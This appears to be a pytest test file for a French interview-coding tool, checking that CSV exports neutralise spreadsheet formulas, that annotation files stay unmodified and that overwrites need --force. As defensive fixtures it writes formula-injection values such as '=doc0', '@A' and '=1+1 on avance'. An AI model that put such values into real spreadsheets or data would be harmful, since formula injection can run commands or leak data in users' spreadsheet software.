    transcript.write_text("".join(f"Enquêtrice : Et ensuite ?\nMme Bertin : {text.lstrip()}\n" for text in HOSTILE), encoding="utf-8")
    annotations = folder / "annotated"
    annotations.mkdir()
    rows = [{"doc_id": f"=doc{n % 2}", "passage_id": f"-p{n}", "text": text, "label": label, "coder": coder}
            for n, text in enumerate(HOSTILE) for coder, label in (("@A", "manager"), ("+B", "artisan" if n % 2 else "manager"), ("=C", "artisan" if n % 2 else "manager"))]
    with open(annotations / "codings.csv", "w", encoding="utf-8", newline="") as handle:
        write_csv(handle, rows, ["doc_id", "passage_id", "text", "label", "coder"])
    metadata = folder / "metadata.csv"
    metadata.write_text("doc_id,pseudonym,role,position\n'=doc0,X,cadre,siege\n'=doc1,Y,cadre,proximite\n", encoding="utf-8")
    return {"table": table, "transcript": transcript, "annotations": annotations, "metadata": metadata}


def test_every_csv_output_neutralises_formulas_and_reads_back(hostile_inputs, trained_model, tmp_path):
    table, transcript = hostile_inputs["table"], hostile_inputs["transcript"]
    texts = set(HOSTILE)

    def written(*args) -> tuple[Path, list[dict]]:
        output = tmp_path / f"out{len(list(tmp_path.iterdir()))}.csv"
        result = run(*args, "-o", output) if "--disagreements" not in args else run(*args)
        assert result.exit_code == 0, result.output
        output = Path(args[args.index("--disagreements") + 1]) if "--disagreements" in args else output
        return output, csv_cells(output)

    for source in (table, transcript):
        output, rows = written("segment", source, "--format", "csv", "-q")
        assert {row["text"] for _, row in read_rows(output)} >= ({t.lstrip() for t in HOSTILE} if source == transcript else texts)
    output, _ = written("lemmatize", table, "--format", "csv", "-q")
    assert [row["doc_id"] for _, row in read_rows(output)] == ["=doc0", "=doc1"] * 3
    output, rows = written("score", table, "--model", trained_model, "--format", "csv", "-q")
    assert {row["text"] for _, row in read_rows(output)} == texts and all(row["passage_id"].startswith("'-p") for row in rows)
    output, _ = written("suggest", table, "--model", trained_model, "--no-exclude", "-n", "6", "--per-interview", "6", "--max-similarity", "1", "-q")
    assert {row["text"] for _, row in read_rows(output)} <= texts
    output, _ = written("agreement", hostile_inputs["annotations"], "--resamples", "100", "--disagreements", tmp_path / "adjudicate.csv")
    assert {row["text"] for _, row in read_rows(output)} == {HOSTILE[1], HOSTILE[3], HOSTILE[5]}
    output, rows = written("profile", hostile_inputs["annotations"], "--metadata", hostile_inputs["metadata"], "--format", "csv", "--resamples", "100", "-q")
    assert [row["doc_id"] for _, row in read_rows(output) if row["kind"] == "interview"] == ["=doc0", "=doc1"]
    project = tmp_path / "scored.qdpx"
    assert run("score", table, "--model", trained_model, "--format", "qdpx", "-o", project, "-q").exit_code == 0
    output, rows = written("qdpx-import", project, "-q")
    assert {row["text"] for _, row in read_rows(output)} == texts and {row["doc_id"] for _, row in read_rows(output)} == {"=doc0", "=doc1"}


# --- 4. annotation files are only read; nothing is written over without --force ---------------------

def snapshot(folder: Path) -> dict[str, tuple[bytes, int]]:
    return {str(p.relative_to(folder)): (p.read_bytes(), p.stat().st_mtime_ns) for p in sorted(folder.rglob("*"))}


def test_no_command_modifies_annotation_files(small_annotations, trained_model, tmp_path, monkeypatch):
    block_network(monkeypatch)
    annotated = tmp_path / "annotated"
    shutil.copytree(small_annotations, annotated)
    (annotated / "extra.jsonl").write_text(json.dumps({"doc_id": "ent01", "passage_id": "zz", "text": "=1+1 on avance", "label": "manager", "coder": "Z"}) + "\n")
    old = time.time() - 3600
    for path in annotated.iterdir():
        os.utime(path, (old, old))
    before = snapshot(annotated)
    out = tmp_path / "out"
    out.mkdir()
    project = out / "p.qdpx"
    commands = [
        ["agreement", annotated, "--resamples", "100", "--disagreements", out / "d.csv", "-o", out / "a.txt"],
        ["agreement", annotated, "--model", trained_model, "--resamples", "100", "--format", "json", "-o", out / "a.json"],
        ["evaluate", "--data", annotated, "--model", trained_model, "--folds", "2", "--no-learning-curve", "-o", out / "e.txt", "-q"],
        ["features", "--model", trained_model, "--data", annotated, "--top", "3", "-o", out / "f.txt", "--plot", out / "f.png", "-q"],
        ["profile", annotated, "--metadata", ROOT / "data" / "transcripts" / "metadata.csv", "--resamples", "100", "-o", out / "p.txt",
         "--plot", out / "p.png", "-q"],
        ["suggest", EXAMPLE, "--model", trained_model, "--exclude", annotated, "-n", "3", "-o", out / "s.csv", "-q"],
        ["segment", annotated / "coder_a.csv", "-o", out / "seg.jsonl", "-q"],
        ["lemmatize", annotated / "extra.jsonl", "-o", out / "lem.jsonl", "-q"],
        ["score", annotated / "extra.jsonl", "--model", trained_model, "--format", "qdpx", "-o", project, "-q"],
        ["qdpx-import", project, "-o", out / "imported.csv", "-q"],
        ["train", "--data", annotated, "--model-dir", out / "model", "--quick", "--folds", "2", "--no-metadata", "-q"],
    ]
    for command in commands:
        result = run(*command)
        assert result.exit_code == 0, (command, result.output)
    assert snapshot(annotated) == before


WRITERS = {
    "segment": lambda f: ["segment", EXAMPLE, "-q", "-o", f],
    "lemmatize": lambda f: ["lemmatize", EXAMPLE, "-q", "-o", f],
    "agreement": lambda f: ["agreement", "{annotated}", "--resamples", "100", "-o", f],
    "agreement --disagreements": lambda f: ["agreement", "{annotated}", "--resamples", "100", "--disagreements", f],
    "evaluate": lambda f: ["evaluate", "--data", "{annotated}", "--model", "{model}", "--folds", "2", "--no-learning-curve", "-q", "-o", f],
    "score": lambda f: ["score", EXAMPLE, "--model", "{model}", "-q", "-o", f],
    "score --format html": lambda f: ["score", EXAMPLE, "--model", "{model}", "--format", "html", "-q", "-o", f],
    "features": lambda f: ["features", "--model", "{model}", "--no-examples", "-q", "-o", f],
    "features --plot": lambda f: ["features", "--model", "{model}", "--no-examples", "-q", "--plot", f],
    "qdpx-import": lambda f: ["qdpx-import", "{project}", "-q", "-o", f],
    "suggest": lambda f: ["suggest", EXAMPLE, "--model", "{model}", "--no-exclude", "-n", "2", "-q", "-o", f],
    "profile": lambda f: ["profile", "{annotated}", "--resamples", "100", "-q", "-o", f],
    "profile --plot": lambda f: ["profile", "{annotated}", "--resamples", "100", "-q", "--plot", f],
}
SUFFIXES = {"suggest": ".csv", "agreement --disagreements": ".csv", "features --plot": ".png", "profile --plot": ".png"}


@pytest.mark.parametrize("command", sorted(WRITERS))
def test_an_existing_file_is_replaced_only_with_force(command, small_annotations, trained_model, tmp_path):
    project = tmp_path / "p.qdpx"
    if command == "qdpx-import":
        assert run("score", EXAMPLE, "--model", trained_model, "--format", "qdpx", "-o", project, "-q").exit_code == 0
    target = tmp_path / f"existing{SUFFIXES.get(command, '.txt')}"
    target.write_bytes(b"keep me")
    args = [str(a).format(annotated=small_annotations, model=trained_model, project=project) for a in WRITERS[command](target)]
    refused = run(*args)
    assert refused.exit_code == 1, refused.output
    assert refused.stderr.strip() == f"Error: {target} exists; use --force to overwrite it"
    assert target.read_bytes() == b"keep me"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["p.qdpx"] * (command == "qdpx-import") + [target.name])  # no temporary left
    forced = run(*args, "--force")
    assert forced.exit_code == 0, forced.output
    assert target.read_bytes() not in (b"", b"keep me")


# The fuzzer found this one on a fresh clone (issue 13): an XML declaration naming an encoding that does
# not exist ended in a LookupError traceback. Every XML reader now says so in one line.
UNKNOWN_ENCODING = '<?xml version="1.0" encoding="U0TF-8"?>'


@pytest.mark.parametrize("declaration", [UNKNOWN_ENCODING, '<?xml version="1.0" encoding="rot13"?>', '<?xml version="1.0" encoding="utf-7"?>',
                                         '<?xml version="1.0" encoding="UTF-16"?>'])
@pytest.mark.parametrize("suffix", [".trs", ".docx", ".odt", ".qdpx"])
def test_an_xml_declaration_with_an_encoding_that_cannot_be_read_is_refused_in_one_line(tmp_path, declaration, suffix):
    if suffix == ".trs":
        path = tmp_path / "ent.trs"
        path.write_text(f'{declaration}<Trans><Speakers><Speaker id="spk1" name="Enquêtrice"/></Speakers></Trans>', encoding="utf-8")
        read = read_transcript
    else:
        part, root = {".docx": ("word/document.xml", DOCX_ROOT), ".odt": ("content.xml", ODT_ROOT), ".qdpx": ("project.qde", QDE_ROOT)}[suffix]
        path = tmp_path / f"ent{suffix}"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr(part, declaration + root)
        read = read_project if suffix == ".qdpx" else read_transcript
    with pytest.raises(EthosError) as caught:
        read(path)
    message = str(caught.value)
    assert "\n" not in message and str(path) in message
    assert "encoding" in message


DOCX_ROOT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
ODT_ROOT = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'
QDE_ROOT = f'<Project xmlns="{NAMESPACE}" name="p"/>'
